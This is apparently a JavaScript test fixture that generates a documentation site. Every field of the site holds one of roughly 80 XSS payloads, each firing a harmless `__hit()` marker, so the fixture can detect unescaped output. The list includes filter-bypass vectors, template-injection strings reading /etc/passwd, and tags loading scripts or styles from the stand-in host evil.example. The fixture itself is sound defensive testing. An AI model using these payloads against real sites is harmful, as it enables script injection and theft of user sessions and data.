// Texts that would run a script where a page takes one of them for markup, and a site that holds each of them in every
// field that an author fills. A script that runs calls `__hit`.

export const PAYLOADS = [
  // Tags that run what they hold or fetch.
  "<script>__hit()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>__hit()</scr</script>ipt>",
  "</title><script>__hit()</script>",
  "</script><script>__hit()</script>",
  "<!--</script><script>__hit()//-->",
  "--><script>__hit()</script>",
  "]]><script>__hit()</script>",
  "<script\t/x>__hit()</script\n>",
  "<iframe src=javascript:parent.__hit()></iframe>",
  "<iframe srcdoc=\"<script>parent.__hit()</script>\"></iframe>",
  "<iframe srcdoc='&lt;img src=x onerror=parent.__hit()&gt;'></iframe>",
  "<object data=javascript:__hit()></object>",
  "<embed src=javascript:__hit()>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:__hit()'>",
  "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example/\">",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=import href=//evil.example/x.html>",
  "<style>@import '//evil.example/x.css';</style>",
  "<form action=javascript:__hit()><button>x</button></form>",
  "<button formaction=javascript:__hit() form=x>x</button>",
  "<template><script>__hit()</script></template>",
  "<frameset onload=__hit()><frame src=javascript:__hit()></frameset>",
  // Attributes that run.
  "<img src=x onerror=__hit()>",
  "<img src=x\nonerror\n=\n__hit()>",
  "<img/src=x/onerror=__hit()>",
  "<IMG SRC=x OnErRoR=__hit()>",
  "\" onmouseover=__hit() autofocus onfocus=__hit() x=\"",
  "' onmouseover=__hit() autofocus onfocus=__hit() x='",
  "`onerror=__hit()`",
  "\"><img src=x onerror=__hit()>",
  "'><img src=x onerror=__hit()>",
  "<details open ontoggle=__hit()>x</details>",
  "<video><source onerror=__hit()></video>",
  "<audio src=x onerror=__hit()></audio>",
  "<body onload=__hit()>",
  "<input autofocus onfocus=__hit()>",
  "<marquee onstart=__hit()>x</marquee>",
  "<div style=\"background:url(//evil.example/x);animation:x\" onanimationstart=__hit()>x</div>",
  "<a href=x tabindex=0 onfocusin=__hit() autofocus>x</a>",
  // Addresses.
  "javascript:__hit()",
  "JaVaScRiPt:__hit()",
  " javascript:__hit()",
  "java\tscript:__hit()",
  "java&Tab;script&colon;__hit()",
  "&#106;&#97;&#118;&#97;script&#58;__hit()",
  "&#x6A&#x61vascript:__hit()",
  "\u0001javascript:__hit()",
  "javascript://%0a__hit()",
  "javascript%3A__hit()",
  "vbscript:__hit()",
  "data:text/html,<script>opener.__hit()</script>",
  "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19oaXQoKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__hit()'/>",
  "//evil.example/%5c..",
  "/\\evil.example",
  "blob:null/__hit()",
  // Drawings and formulas.
  "<svg onload=__hit()></svg>",
  "<svg><script>__hit()</script></svg>",
  "<svg><a xlink:href=javascript:__hit()><text y=20>x</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:__hit() /></svg>",
  "<svg><style><img src=x onerror=__hit()></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=__hit()>",
  "<math href=javascript:__hit()>x</math>",
  "\\href{javascript:__hit()}{x} \\unicode{<img src=x onerror=__hit()>}",
  // What becomes markup when it is read a second time.
  "<noscript><p title=\"</noscript><img src=x onerror=__hit()>\">",
  "<textarea></textarea><img src=x onerror=__hit()>",
  "<select><style></select><img src=x onerror=__hit()></style>",
  "&lt;img src=x onerror=__hit()&gt;",
  "&amp;lt;img src=x onerror=__hit()&amp;gt;",
  "<a id=x><a id=x name=y href=cid:__hit()></a></a><form id=document name=cookie><input name=attributes></form>",
  "<p id=\"</p><img src=x onerror=__hit()>\">x</p>",
  // What a template may take for its own.
  "{{ 7 | safe }}{% include '/etc/passwd' %}{{constructor.constructor('__hit()')()}}",
  "${__hit()}",
  "<%= __hit() %>#{__hit()}",
  // The order of letters, and letters that fold to others.
  "\u202etpircs\u202c<img src=x onerror=__hit()>",
  "\u2066\u202ejavascript:__hit()\u2069",
  "\uff1cscript\uff1e__hit()\uff1c/script\uff1e",
  "<\u017fcript>__hit()</\u017fcript>",
  "<img src=x on\u0000error=__hit()>",
];

const pair = (number, target, source) =>
  `<span data-ttu-id="0b5e1-${number}">${target}</span><span class="sxs-lookup"><span data-stu-id="0b5e1-${number}">${source}</span></span>`;

// A bilingual page that holds a text in every place that Markdown and its extensions know.
export function markdown(text, at) {
  const line = text.replaceAll("\n", " ");
  // YAML's double quotes read what JSON writes.
  const quoted = JSON.stringify(text);
  let number = 102;
  const both = (around = (inner) => inner) => {
    number += 1;
    return pair(number, around(`т ${line}`), around(`s ${line}`));
  };
  const front = ["title", "description", "titleSuffix", "uid", "author", "ms.topic", "ms.sourcegitcommit", "ms.openlocfilehash", "ms.lasthandoff"];
  const blocks = [
    `# <a name="${line}"></a>${both()}`,
    both(),
    both((inner) => `**${inner}**`),
    both((inner) => `[${inner}](${line})`),
    both((inner) => `[${inner}](<${line}>)`),
    both((inner) => `[${inner}](p${at}.md "${line}")`),
    both((inner) => `![${inner}](${line})`),
    both((inner) => `![${inner}](<${line}> '${line}')`),
    both((inner) => `\`${inner}\``),
    both((inner) => `$${inner}$`),
    `[a][r] <${line}> <xref:${line}> [x](xref:${line})\n\n[r]: <${line}> "${line}"`,
    `## ${line}`,
    `- ${both()}\n- ${line}\n  1. ${both()}`,
    `| ${both()} | ${line.replaceAll("|", "\\|")} |\n|---|---|\n| ${both()} | ${both((inner) => `[${inner}](<${line}>)`)} |`,
    `> [!NOTE]\n> ${both()}`,
    `> [!${line}]\n> ${both()}`,
    `> [!div class="${line}"]\n> ${both()}`,
    `\`\`\`${line}\n${text}\n\`\`\``,
    `\`\`\`html\n${text}\n\`\`\``,
    `    ${line}`,
    `:::image type="content" source="${line}" alt-text="${line}" link="${line}":::`,
    `:::image type="complex" source="x.png" alt-text="${line}":::\n${both()}\n:::image-end:::`,
    `[!VIDEO ${line}]`,
    `:::row:::\n:::column span="${line}":::\n${both()}\n:::column-end:::\n:::row-end:::`,
    `# [${line}](#tab/${line})\n\n${both()}\n\n# [${both()}](#tab/b)\n\n${both()}\n\n---`,
    `::: zone pivot="${line}"\n\n${both()}\n\n::: zone-end`,
    `::: zone pivot="b"\n\n${both()}\n\n::: zone-end`,
    `[!INCLUDE [${line}](${line})] [!INCLUDE [x](includes/n${at}.md)]`,
    `:::no-loc text="${line}":::`,
    `:::code language="${line}" source="${line}":::`,
    `a[^1]\n\n[^1]: ${both()}`,
    `term ${line}\n: ${both()}`,
    `$$ ${line} $$`,
    `<div title="${line}" id='${line}'>${both()}</div>`,
    `<a href="${line}" title='${line}' target="${line}">${line}</a> <img src="${line}" alt='${line}'>`,
    `<table><tr><td>${both()}</td><td>${line}</td></tr></table>`,
    text,
  ];
  return `---\n${front.map((key) => `${key}: ${quoted}\n`).join("")}no-loc: [${quoted}]\nms.date: ${quoted}\nredirect_from: [${quoted}]\n---\n${blocks.join("\n\n")}\n`;
}

// A landing page with a text in each of its fields.
export function yaml(text) {
  const quoted = JSON.stringify(text);
  const both = JSON.stringify(pair(103, `т ${text}`, `s ${text}`));
  return [
    "### YamlMime:Landing",
    `title: ${both}`,
    `summary: ${both}`,
    "metadata:",
    `  title: ${quoted}`,
    `  description: ${quoted}`,
    "landingContent:",
    `- title: ${quoted}`,
    "  linkLists:",
    `  - linkListType: ${quoted}`,
    "    links:",
    `    - text: ${JSON.stringify(pair(104, `т ${text}`, `s ${text}`))}`,
    `      url: ${quoted}`,
    "",
  ].join("\n");
}

// The table of contents of all pages, each named by a text.
function toc() {
  return PAYLOADS.flatMap((text, at) => [`- name: ${JSON.stringify(text)}`, `  displayName: ${JSON.stringify(text)}`, `  href: p${at}.md`, "  items:", `  - name: ${JSON.stringify(text)}`, `    href: ${JSON.stringify(text)}`, ""]).join("\n");
}

// All files of the site, as `[path, text]`. The English pages are those that the Russian ones quote.
export function hostile() {
  const all = JSON.stringify(PAYLOADS.join(" ").replaceAll("\0", ""));
  return [
    ["hexapla.toml", `title = ${all}\ndescription = ${all}\n[locales.ru]\nname = ${all}\ntitle = ${all}\n[[docsets]]\nname = "d"\ntitle = ${all}\ntitle_suffix = ${all}\n[[docsets.content]]\nexclude = ["includes/**"]\n`],
    ["content/ru/d/TOC.yml", toc()],
    ...PAYLOADS.flatMap((text, at) => [
      [`content/ru/d/p${at}.md`, markdown(text, at)],
      [`content/ru/d/y${at}.yml`, yaml(text)],
      [`content/ru/d/includes/n${at}.md`, `# ${text}\n\n${text}\n\n${pair(103, text, text)}\n`],
    ]),
  ];
}
